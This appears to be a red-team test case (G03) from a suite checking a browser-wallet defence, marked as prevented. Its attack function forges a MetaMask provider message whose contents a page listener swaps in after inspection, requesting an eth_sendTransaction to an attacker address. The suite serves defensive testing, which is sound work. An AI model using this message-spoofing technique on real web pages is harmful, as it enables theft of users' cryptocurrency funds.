// G03: a synthetic message is harmless while it is looked at; the page's own listener fills it in before the wallet's listener reads it.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'G03',
  title: 'the data of a synthetic message changes on its way',
  source: 'our own red team, second round',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const request = {
      jsonrpc: '2.0',
      id: 77,
      method: 'eth_sendTransaction',
      params: [{ from: a.USER, to: a.EVIL, value: '0x5' }],
    };
    const data = {};
    addEventListener(
      'message',
      (event) => {
        if (event.data === data)
          Object.assign(data, { target: 'metamask-contentscript', data: { name: 'metamask-provider', data: request } });
      },
      true,
    );
    const { source, origin } = { source: window, origin: location.origin };
    dispatchEvent(new MessageEvent('message', { data, source, origin }));
    await new Promise((resolve) => setTimeout(resolve, 300));
    // Said aloud, so that there is something to report.
    dispatchEvent(
      new MessageEvent('message', {
        data: { target: 'metamask-contentscript', data: { name: 'metamask-provider', data: request } },
        source,
        origin,
      }),
    );
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD, 'eth_sendTransaction'),
  violation: (a) => ({ surface: 'postmessage', account: a.EVIL }),
};
